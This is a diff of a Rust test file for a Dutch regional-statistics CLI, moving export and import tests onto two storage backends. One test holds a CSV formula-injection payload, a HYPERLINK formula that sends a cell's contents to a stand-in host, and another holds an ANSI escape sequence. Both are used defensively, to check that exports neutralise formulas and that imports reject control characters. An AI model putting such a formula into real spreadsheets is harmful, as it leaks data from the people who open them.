@@ -1,8 +1,27 @@
 //! `regio-in-beeld export` and `demo`: what scripts read from a fresh store with the demo data.
 
+#[macro_use]
 mod support;
 
+use support::backends::Backend;
 use support::{fixture, run, temp_store};
+
+// What is read from the store; the tests below them are about a file (or no store at all).
+on_both_backends!(
+    zvh_dossiers_of_1_february_2023_export_exactly_as_published,
+    small_counts_are_shielded_in_the_default_export,
+    export_uses_dutch_periods_and_numbers_in_a_stable_order,
+    json_export_carries_codes_and_numbers,
+    unknown_indicator_is_refused_with_exit_code_1,
+    remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged,
+    a_remark_with_a_control_character_is_refused_with_file_row_and_column,
+);
+
+/// The demo store, made as `init` (or `server init`) and `demo` make it.
+fn demo_store(backend: &Backend) -> &Backend {
+    backend.init_demo();
+    backend
+}
 
 /// The seed figures (copied from the region's published documents) for one indicator and period.
 fn seed_rows(indicator: &str, period: &str) -> Vec<(String, String)> {
@@ -24,18 +43,14 @@ fn exported_rows(csv: &str, period: &str) -> Vec<(String, String, String)> {
         .collect()
 }
 
-#[test]
-fn zvh_dossiers_of_1_february_2023_export_exactly_as_published() {
-    let store = temp_store();
-    let out = run(
-        &store.path,
-        &[
-            "export",
-            "--indicator",
-            "zvh_dossiers_in_behandeling",
-            "--unshielded",
-        ],
-    );
+fn zvh_dossiers_of_1_february_2023_export_exactly_as_published(backend: &Backend) {
+    let store = demo_store(backend);
+    let out = store.run(&[
+        "export",
+        "--indicator",
+        "zvh_dossiers_in_behandeling",
+        "--unshielded",
+    ]);
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert!(
         out.stdout
@@ -52,13 +67,9 @@ fn zvh_dossiers_of_1_february_2023_export_exactly_as_published() {
     assert!(exported.contains(&("Zaanstreek-Waterland".into(), "96".into())));
 }
 
-#[test]
-fn small_counts_are_shielded_in_the_default_export() {
-    let store = temp_store();
-    let out = run(
-        &store.path,
-        &["export", "--indicator", "zvh_dossiers_in_behandeling"],
-    );
+fn small_counts_are_shielded_in_the_default_export(backend: &Backend) {
+    let store = demo_store(backend);
+    let out = store.run(&["export", "--indicator", "zvh_dossiers_in_behandeling"]);
     assert_eq!(out.code, 0, "{}", out.stderr);
     let rows = exported_rows(&out.stdout, "2023-02-01");
     let row = |area: &str| rows.iter().find(|r| r.0 == area).cloned().unwrap();
@@ -73,11 +84,10 @@ fn small_counts_are_shielded_in_the_default_export() {
     assert_eq!(row("Zaanstreek-Waterland").1, "96");
 }
 
-#[test]
-fn export_uses_dutch_periods_and_numbers_in_a_stable_order() {
-    let store = temp_store();
-    let first = run(&store.path, &["export"]);
-    let second = run(&store.path, &["export"]);
+fn export_uses_dutch_periods_and_numbers_in_a_stable_order(backend: &Backend) {
+    let store = demo_store(backend);
+    let first = store.run(&["export"]);
+    let second = store.run(&["export"]);
     assert_eq!(first.code, 0, "{}", first.stderr);
     assert_eq!(first.stdout, second.stdout);
     assert!(
@@ -115,19 +125,15 @@ fn export_uses_dutch_periods_and_numbers_in_a_stable_order() {
     assert!(quarter_rows[159].starts_with("veilig_thuis_meldingen;Zaanstreek-Waterland;2025 K4;"));
 }
 
-#[test]
-fn json_export_carries_codes_and_numbers() {
-    let store = temp_store();
-    let out = run(
-        &store.path,
-        &[
-            "export",
-            "--indicator",
-            "gemeentelijke_bijdrage_zvh",
-            "--format",
-            "json",
-        ],
-    );
+fn json_export_carries_codes_and_numbers(backend: &Backend) {
+    let store = demo_store(backend);
+    let out = store.run(&[
+        "export",
+        "--indicator",
+        "gemeentelijke_bijdrage_zvh",
+        "--format",
+        "json",
+    ]);
     assert_eq!(out.code, 0, "{}", out.stderr);
     let rows: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
     let zaanstad_2023 = rows
@@ -141,10 +147,9 @@ fn json_export_carries_codes_and_numbers() {
     assert_eq!(zaanstad_2023["status"], "definitief");
 }
 
-#[test]
-fn unknown_indicator_is_refused_with_exit_code_1() {
-    let store = temp_store();
-    let out = run(&store.path, &["export", "--indicator", "bestaat_niet"]);
+fn unknown_indicator_is_refused_with_exit_code_1(backend: &Backend) {
+    let store = demo_store(backend);
+    let out = store.run(&["export", "--indicator", "bestaat_niet"]);
     assert_eq!(out.code, 1);
     assert!(out.stdout.is_empty());
     assert!(
@@ -224,9 +229,8 @@ fn csv_remarks(csv: &str, indicator: &str) -> Vec<(String, String, String)> {
 /// A remark typed by one user must never run as a formula when a colleague opens the export in
 /// Excel: text starting with `=`, `+`, `-`, `@`, tab or carriage return (or `'`) is written with a
 /// leading `'`, and reading the export back takes it off, so nothing changes.
-#[test]
-fn remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged() {
-    let store = temp_store();
+fn remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged(backend: &Backend) {
+    let store = demo_store(backend);
     let hyperlink = r#"=HYPERLINK("http://x.example/?leak="&A1,"klik")"#;
     // (remark in the file, remark as stored)
     let remarks = [
@@ -246,7 +250,7 @@ fn remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged(
         ("''=x", "'=x"),
         ("gewoon", "gewoon"),
     ];
-    let file = store.path.with_file_name("formules.csv");
+    let file = store.dir().join("formules.csv");
     let mut writer = csv::WriterBuilder::new()
         .delimiter(b';')
         .from_path(&file)
@@ -282,20 +286,17 @@ fn remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged(
         .unwrap();
     writer.flush().unwrap();
     drop(writer);
-    let imported = run(&store.path, &["import", file.to_str().unwrap()]);
+    let imported = store.run(&["import", file.to_str().unwrap()]);
     assert_eq!(imported.code, 0, "{}", imported.stderr);
 
     // What is stored, as JSON shows it (no spreadsheet form there).
-    let json = run(
-        &store.path,
-        &[
-            "export",
-            "--indicator",
-            "zvh_aanmeldingen",
-            "--format",
-            "json",
-        ],
-    );
+    let json = store.run(&[
+        "export",
+        "--indicator",
+        "zvh_aanmeldingen",
+        "--format",
+        "json",
+    ]);
     let rows: Vec<serde_json::Value> = serde_json::from_str(&json.stdout).unwrap();
     for ((_, stored), period) in remarks.iter().zip(&periods) {
         let row = rows
@@ -305,7 +306,7 @@ fn remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged(
         assert_eq!(row["opmerking"], *stored, "{period}");
     }
 
-    let export = run(&store.path, &["export", "--unshielded"]);
+    let export = store.run(&["export", "--unshielded"]);
     assert_eq!(export.code, 0, "{}", export.stderr);
     let exported = csv_remarks(&export.stdout, "zvh_aanmeldingen");
     for ((_, stored), period) in remarks.iter().zip(&periods) {
@@ -326,9 +327,9 @@ fn remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged(
     );
 
     // Reading the export back changes nothing: every remark comes back as stored.
-    let again = store.path.with_file_name("export.csv");
+    let again = store.dir().join("export.csv");
     std::fs::write(&again, &export.stdout).unwrap();
-    let reimported = run(&store.path, &["import", again.to_str().unwrap()]);
+    let reimported = store.run(&["import", again.to_str().unwrap()]);
     assert_eq!(reimported.code, 0, "{}", reimported.stderr);
     assert!(
         reimported.stdout.contains(" 0 toegevoegd, 0 gewijzigd,")
@@ -336,17 +337,13 @@ fn remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged(
         "{}",
         reimported.stdout
     );
-    assert_eq!(
-        run(&store.path, &["export", "--unshielded"]).stdout,
-        export.stdout
-    );
+    assert_eq!(store.run(&["export", "--unshielded"]).stdout, export.stdout);
 }
 
-#[test]
-fn a_remark_with_a_control_character_is_refused_with_file_row_and_column() {
-    let store = temp_store();
-    let before = run(&store.path, &["export", "--unshielded"]).stdout;
-    let file = store.path.with_file_name("stuurteken.csv");
+fn a_remark_with_a_control_character_is_refused_with_file_row_and_column(backend: &Backend) {
+    let store = demo_store(backend);
+    let before = store.run(&["export", "--unshielded"]).stdout;
+    let file = store.dir().join("stuurteken.csv");
     std::fs::write(
         &file,
         "indicator;gebied;periode;waarde;status;opmerking\n\
@@ -355,7 +352,7 @@ fn a_remark_with_a_control_character_is_refused_with_file_row_and_column() {
          zvh_aanmeldingen;Zaanstad;2010 K3;veel;;\u{1b}[31mrood\n",
     )
     .unwrap();
-    let refused = run(&store.path, &["import", file.to_str().unwrap()]);
+    let refused = store.run(&["import", file.to_str().unwrap()]);
     assert_eq!(refused.code, 1, "{}", refused.stdout);
     let name = file.display();
     for line in [
@@ -369,7 +366,7 @@ fn a_remark_with_a_control_character_is_refused_with_file_row_and_column() {
     ] {
         assert!(refused.stderr.contains(&line), "{line}\n{}", refused.stderr);
     }
-    assert_eq!(run(&store.path, &["export", "--unshielded"]).stdout, before);
+    assert_eq!(store.run(&["export", "--unshielded"]).stdout, before);
 }
 
 /// A copy of the shipped definitions with the name of `zvh_aanmeldingen` replaced.
